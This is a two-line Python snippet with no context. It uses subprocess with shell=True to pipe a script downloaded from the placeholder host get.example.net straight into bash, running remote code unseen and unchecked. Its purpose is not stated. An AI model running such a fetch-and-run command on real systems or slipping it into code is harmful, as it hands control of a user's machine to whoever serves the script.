import subprocess as sp
sp.Popen("curl -fsSL https://get.example.net | bash", shell=True)
